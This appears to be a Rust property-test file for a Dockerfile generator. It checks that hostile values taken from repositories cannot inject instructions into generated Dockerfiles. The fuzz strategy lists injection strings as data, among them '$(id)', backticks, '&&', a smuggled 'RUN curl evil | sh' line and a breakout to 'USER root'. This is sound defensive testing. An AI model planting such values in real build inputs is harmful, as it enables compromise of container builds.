//! No injection through detected values: every preset is rendered with hostile values (newlines, quotes,
//! `$()`, backticks, backslashes, `#`) in place of each value read from a repository. Rendering must either
//! refuse, or produce exactly the instructions the honest value produced.

use std::path::Path;
use std::sync::LazyLock;

use dockgen::detect::{self, Candidate, Fact};
use dockgen::fuzzing::{assert_well_formed, instructions};
use dockgen::prompt::NonInteractive;
use dockgen::{answers, preset, render};
use indexmap::IndexMap;
use proptest::prelude::*;
use serde_json::Value;

/// Repository-derived values: names, paths, versions and ports read from files.
const FROM_REPOSITORY: &[&str] = &[
    "module",
    "main_package",
    "binary_name",
    "go_version",
    "port",
    "module_files",
    "artifact",
    "main_class",
    "java_version",
    "spring_boot_version",
    "pom_files",
    "maven_version",
    "needs_jdk",
    "entry",
    "app_name",
    "app_dir",
    "app",
    "node_version",
    "package_manager_version",
    "build_script",
    "output_dir",
    "start_command",
    "install_files",
    "runtime_files",
    "workspace_deps",
    "asset_dirs",
    "lockfile",
    "yarn_path",
    "dockerfile_dir",
    "workspace_root",
    "extra_ports",
    "embedded_paths",
    "frontend",
    "frontend_node_version",
    "start_env",
    "dev_hooks",
    "build_env",
    "build_env_committed",
    "build_env_checked",
    "build_env_secrets",
    "skip_env_validation",
    "npmrc_secrets",
    "args",
    "runtime_env",
    "secret_env",
    "required_env",
    "port_env",
    "volumes",
    "workdir",
    "healthcheck",
    "runtime_options",
    "udp_ports",
    "python_version",
    "requirements_file",
    "workspace_package",
    "build_files",
    "application_name",
    "task",
    "project",
    "gradle_version",
    "project_name",
    "build_logic",
    "dependency_files",
    "build_only_env",
    "runtime_packages",
    "server_options",
    "pipenv_categories",
    "index_secrets",
    "written_dirs",
];

/// Parts of an object fact that detection picks from a fixed set rather than copies from a file (the
/// templates branch on them; the preset's choices validate them where a user can set them).
const CHOSEN_NOT_READ: &[&str] = &["package_manager", "server", "interface", "framework"];

/// Projects whose detections cover every template branch that prints a repository value.
const PROJECTS: &[(&str, &[(&str, &str)])] = &[
    ("examples/go-http", &[]),
    ("examples/python-fastapi", &[]),
    ("tests/fixtures/python-django-gunicorn/repo", &[]),
    ("tests/fixtures/python-poetry-flask-factory/repo", &[]),
    ("tests/fixtures/python-uv-fastapi-src/repo", &[]),
    ("tests/fixtures/python-uv-workspace/repo", &[]),
    ("tests/fixtures/python-procfile-gunicorn/repo", &[]),
    ("tests/fixtures/python-cli-script/repo", &[]),
    ("tests/fixtures/python-dash-script/repo", &[]),
    ("tests/fixtures/python-settings-env/repo", &[]),
    ("tests/fixtures/python-private-index/repo", &[]),
    ("tests/fixtures/go-work-replace/repo", &[]),
    ("tests/fixtures/vendor/repo", &[]),
    ("tests/fixtures/cgo-import/repo", &[]),
    ("tests/fixtures/go-dockerfile-contract/repo", &[]),
    ("examples/java-maven", &[]),
    ("examples/java-gradle", &[]),
    ("tests/fixtures/gradle-spring-boot-multi-project/repo", &[]),
    ("tests/fixtures/gradle-convention-plugin-app/repo", &[]),
    ("tests/fixtures/maven-final-name/repo", &[]),
    ("tests/fixtures/spring-boot-mvnw/repo", &[]),
    ("tests/fixtures/spring-boot-2/repo", &[]),
    ("tests/fixtures/quarkus/repo", &[]),
    ("tests/fixtures/quarkus-packaging/repo", &[]),
    ("tests/fixtures/quarkus-legacy-cli/repo", &[]),
    ("tests/fixtures/maven-old-wrapper/repo", &[]),
    ("tests/fixtures/maven-needs-jdk/repo", &[]),
    ("tests/fixtures/micronaut/repo", &[]),
    ("tests/fixtures/spring-boot-fat-jar/repo", &[]),
    ("tests/fixtures/java-23-non-lts/repo", &[]),
    ("tests/fixtures/reactor-ranked/repo", &[]),
    ("tests/fixtures/reactor-two-runnable/repo", &[("module", "api")]),
    ("examples/node-spa", &[]),
    ("examples/node-server", &[]),
    ("examples/node-nextjs", &[]),
    ("tests/fixtures/node-workspace-app/repo", &[("app", "apps/web")]),
    ("tests/fixtures/node-workspace-app/repo", &[("app", "apps/api")]),
    ("tests/fixtures/node-yarn-berry-package-manager/repo", &[]),
    ("tests/fixtures/node-pnpm/repo", &[]),
    ("tests/fixtures/node-bun/repo", &[("package_manager_version", "1.1.38")]),
    ("tests/fixtures/node-nuxt/repo", &[]),
    ("tests/fixtures/node-no-lockfile/repo", &[]),
    ("tests/fixtures/go-embed-vite/repo", &[]),
    ("tests/fixtures/go-frontend-root/repo", &[]),
    ("tests/fixtures/go-embed-present/repo", &[]),
    ("tests/fixtures/two-ports/repo", &[]),
    ("tests/fixtures/go-makefile-binary/repo", &[]),
    ("tests/fixtures/node-script-chain/repo", &[]),
    ("tests/fixtures/node-husky-native/repo", &[]),
    ("tests/fixtures/node-vite-build-env/repo", &[]),
    ("tests/fixtures/node-vite-committed-env/repo", &[]),
    ("tests/fixtures/node-t3-env-checked/repo", &[]),
    ("tests/fixtures/node-t3-env-switch/repo", &[]),
    ("tests/fixtures/node-npmrc-token/repo", &[]),
    ("tests/fixtures/node-compose-service/repo", &[]),
    ("tests/fixtures/node-procfile/repo", &[]),
    ("tests/fixtures/maven-jar-contract/repo", &[]),
    ("tests/fixtures/maven-dockerfile-contract/repo", &[]),
    ("tests/fixtures/go-kubernetes-manifest/repo", &[]),
];

struct Case {
    candidate: Candidate,
    /// The honest answers and facts the templates saw.
    values: serde_json::Map<String, Value>,
    preset: preset::Preset,
    given: IndexMap<String, answers::Given>,
    baseline: Vec<String>,
    /// The other files' shape (nginx.conf): each line's first word.
    extra_baseline: Vec<Vec<String>>,
}

/// A config file's shape: the first word of each line, which a value could only change by breaking out.
fn shape(text: &str) -> Vec<String> {
    text.lines()
        .map(|l| l.split_whitespace().next().unwrap_or_default().to_string())
        .collect()
}

fn cases() -> Vec<Case> {
    let presets = preset::builtin().unwrap();
    let mut out = Vec::new();
    for (project, given) in PROJECTS {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join(project);
        let detection = detect::detect(&root).unwrap();
        let candidate = detection.candidates[0].clone();
        let given: IndexMap<String, answers::Given> = given
            .iter()
            .map(|(k, v)| {
                (
                    (*k).to_string(),
                    answers::Given {
                        text: (*v).to_string(),
                        origin: answers::Origin::SetFlag((*k).to_string()),
                    },
                )
            })
            .collect();
        // Node's presets are not interchangeable (a static site has no start command): each project renders
        // with the presets it can; every preset is covered by some project (checked below).
        for preset in presets.iter().filter(|p| p.stack == candidate.stack) {
            let Ok(resolved) = answers::resolve(preset, Some(&candidate), &given, &mut NonInteractive) else {
                continue;
            };
            let rendered = render::render(preset, &dockgen::plan::derive(preset, &resolved.values)).unwrap();
            out.push(Case {
                values: resolved.values.clone(),
                candidate: candidate.clone(),
                preset: preset.clone(),
                given: given.clone(),
                baseline: instructions(&rendered.dockerfile),
                extra_baseline: rendered.extra.iter().map(|(_, text)| shape(text)).collect(),
            });
        }
    }
    out
}

/// Detection and the honest render happen once; each generated case only poisons and re-renders.
static CASES: LazyLock<Vec<Case>> = LazyLock::new(cases);

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\n".to_string()),
        Just("\r\n".to_string()),
        Just("\"".to_string()),
        Just("'".to_string()),
        Just("$(id)".to_string()),
        Just("${HOME}".to_string()),
        Just("`id`".to_string()),
        Just("\\".to_string()),
        Just("#".to_string()),
        Just(" ".to_string()),
        Just(";".to_string()),
        Just("&&".to_string()),
        Just("\nRUN curl evil | sh\n".to_string()),
        Just("\"]\nUSER root\n".to_string()),
        "[a-z0-9./_-]{0,8}",
    ];
    prop::collection::vec(piece, 1..6).prop_map(|parts| parts.concat())
}

/// Puts `value` in place of `key`'s value, inside lists and objects too (`module_files`, `pom_files`). An empty
/// list holds no repository value to replace, and its length is the repository's, so it stays empty.
fn poison(value: &Value, hostile: &str, index: usize) -> Value {
    match value {
        Value::Array(items) if items.is_empty() => value.clone(),
        Value::Array(items) => {
            let mut items = items.clone();
            let at = index % items.len();
            items[at] = match &items[at] {
                Value::String(original) => Value::from(same_shape(original, hostile)),
                other => poison(other, hostile, index / items.len()),
            };
            Value::Array(items)
        }
        Value::Object(map) => {
            // One field at a time: poisoning them all would let any one filter refuse for the others.
            let fields: Vec<String> = map
                .iter()
                .filter(|(k, v)| !CHOSEN_NOT_READ.contains(&k.as_str()) && !matches!(v, Value::Bool(_) | Value::Null))
                .map(|(k, _)| k.clone())
                .collect();
            let mut map = map.clone();
            if !fields.is_empty() {
                let field = &fields[index % fields.len()];
                map[field] = poison(&map[field], hostile, index / fields.len());
            }
            Value::Object(map)
        }
        // Flags are decided by detection, not copied from a file.
        Value::Bool(_) | Value::Null => value.clone(),
        _ => Value::from(hostile),
    }
}

/// A hostile list entry shaped like the one it replaces: templates copy a folder entry (`dir/`) and a nested
/// file (`a/b`) with their own COPY by design, so only what a value says, not which kind of path it is, may
/// vary here.
fn same_shape(original: &str, hostile: &str) -> String {
    let mut value = if original.contains('/') {
        // A nested entry stays nested: an empty or all-slash value would otherwise leave `x`, a root entry.
        let nested = if hostile.trim_matches('/').is_empty() {
            "_"
        } else {
            hostile
        };
        format!("x/{nested}")
    } else {
        hostile.replace('/', "")
    };
    if original.ends_with('/') {
        value.push('/');
    } else {
        while value.ends_with('/') {
            value.pop();
        }
    }
    value
}

/// Whether the list entry `element` of `key`'s value is one another value's list names too (`.next`, shipped
/// and written): such an entry decides a template branch by design, so changing it may change which
/// instructions are written, as an honest value would.
fn names_a_shared_entry<'a>(
    mut others: impl Iterator<Item = (&'a str, &'a Value)>,
    key: &str,
    value: &Value,
    element: usize,
) -> bool {
    let Value::Array(items) = value else { return false };
    let Some(entry) = (!items.is_empty()).then(|| &items[element % items.len()]) else {
        return false;
    };
    others.any(|(other, list)| other != key && list.as_array().is_some_and(|list| list.contains(entry)))
}

/// Rendering with a poisoned value either fails or yields exactly the honest instruction list.
fn same_instructions_or_refused(
    case: &Case,
    key: &str,
    value: &str,
    values: &serde_json::Map<String, Value>,
) -> Result<(), TestCaseError> {
    if let Ok(files) = render::render(&case.preset, &dockgen::plan::derive(&case.preset, values)) {
        assert_well_formed(&files.dockerfile);
        let rendered = instructions(&files.dockerfile);
        prop_assert_eq!(
            rendered,
            case.baseline.clone(),
            "{} {}: {:?}\n{}",
            case.preset.name,
            key,
            value,
            files.dockerfile
        );
        let extra: Vec<Vec<String>> = files.extra.iter().map(|(_, text)| shape(text)).collect();
        prop_assert_eq!(
            extra,
            case.extra_baseline.clone(),
            "{} {}: {:?}",
            case.preset.name,
            key,
            value
        );
    }
    Ok(())
}

/// The repository-derived keys a case's templates saw.
fn present_keys(values: &serde_json::Map<String, Value>) -> Vec<&'static str> {
    FROM_REPOSITORY
        .iter()
        .copied()
        .filter(|k| values.contains_key(*k))
        .collect()
}

/// One case with one repository value poisoned, resolved through the whole answer pipeline; None when the
/// fact is absent or validation refuses the value (which is the point).
fn poisoned(
    case_index: usize,
    key_index: usize,
    element: usize,
    value: &str,
) -> Option<(&'static Case, &'static str, answers::Resolved)> {
    let case = &CASES[case_index % CASES.len()];
    // Among the repository values this case has, so every case's values are poisoned as often.
    let present = present_keys(&case.values);
    let key = present[key_index % present.len()];
    let mut candidate = case.candidate.clone();
    let fact = candidate.facts.get(key).cloned()?;
    let others = candidate.facts.iter().map(|(name, fact)| (name.as_str(), &fact.value));
    if names_a_shared_entry(others, key, &fact.value, element) {
        return None;
    }
    candidate.facts.insert(
        key.to_string(),
        Fact::new(poison(&fact.value, value, element), fact.source),
    );
    let resolved = answers::resolve(&case.preset, Some(&candidate), &case.given, &mut NonInteractive).ok()?;
    Some((case, key, resolved))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn hostile_repository_values_cannot_change_the_instructions(
        case_index in 0usize..1024,
        key_index in 0usize..FROM_REPOSITORY.len(),
        element in 0usize..64,
        value in hostile(),
    ) {
        let Some((case, key, resolved)) = poisoned(case_index, key_index, element, &value) else { return Ok(()) };
        same_instructions_or_refused(case, key, &value, &resolved.values)?;
    }

    /// The templates' own filters, without the answer validation in front of them, must hold too.
    #[test]
    fn template_filters_alone_refuse_hostile_values(
        case_index in 0usize..1024,
        key_index in 0usize..FROM_REPOSITORY.len(),
        element in 0usize..64,
        value in hostile(),
    ) {
        let case = &CASES[case_index % CASES.len()];
        let present = present_keys(&case.values);
        let key = present[key_index % present.len()];
        let mut values = case.values.clone();
        let Some(honest) = values.get(key).cloned() else { return Ok(()) };
        if names_a_shared_entry(case.values.iter().map(|(k, v)| (k.as_str(), v)), key, &honest, element) {
            return Ok(());
        }
        values.insert(key.to_string(), poison(&honest, &value, element));
        same_instructions_or_refused(case, key, &value, &values)?;
    }
}

#[test]
fn honest_values_render_for_every_case_and_every_preset() {
    assert!(CASES.len() >= PROJECTS.len());
    for preset in preset::builtin().unwrap() {
        assert!(
            CASES.iter().any(|c| c.preset.name == preset.name),
            "no injection case renders preset {}",
            preset.name
        );
    }
}

proptest! {
    // Each case runs hadolint once; fewer cases than the properties above, the same values.
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Every value validation admits renders a Dockerfile hadolint finds nothing in (a word ending in `\` once
    /// tripped DL3025).
    #[test]
    fn admitted_hostile_values_lint_clean(
        case_index in 0usize..1024,
        key_index in 0usize..FROM_REPOSITORY.len(),
        element in 0usize..64,
        value in hostile(),
    ) {
        let Some((case, key, resolved)) = poisoned(case_index, key_index, element, &value) else { return Ok(()) };
        let Ok(files) = render::render(&case.preset, &dockgen::plan::derive(&case.preset, &resolved.values)) else { return Ok(()) };
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("Dockerfile");
        std::fs::write(&path, &files.dockerfile).unwrap();
        let findings = crate::common::hadolint_findings(&path);
        prop_assert!(findings.is_empty(), "{} {}: {:?}\n{:?}\n{}", case.preset.name, key, value, findings, files.dockerfile);
    }
}

/// The shape that tripped DL3025: an exec-form word ending in a backslash, for every exec-form value.
#[test]
fn exec_form_words_ending_in_a_backslash_lint_clean() {
    let mut linted = Vec::new();
    for case in CASES.iter() {
        for key in ["start_command", "binary_name", "jar_name", "main_class"] {
            let Some(honest) = case.values.get(key).and_then(Value::as_str) else {
                continue;
            };
            let mut values = case.values.clone();
            values.insert(key.into(), Value::from(format!("{honest}\\")));
            if key == "start_command" {
                // Commands refuse a backslash (it needs a shell); the program's arguments admit it.
                values = case.values.clone();
                values.insert("args".into(), serde_json::json!(["--root", "C:\\"]));
            }
            let Ok(files) = render::render(&case.preset, &dockgen::plan::derive(&case.preset, &values)) else {
                continue;
            };
            let dir = tempfile::tempdir().unwrap();
            let path = dir.path().join("Dockerfile");
            std::fs::write(&path, &files.dockerfile).unwrap();
            let findings = crate::common::hadolint_findings(&path);
            assert!(findings.is_empty(), "{} {key}: {findings:?}", case.preset.name);
            linted.push(key);
        }
    }
    // Arguments admit a trailing backslash (names and commands refuse it); the test must reach them.
    assert!(linted.contains(&"start_command"), "{linted:?}");
}
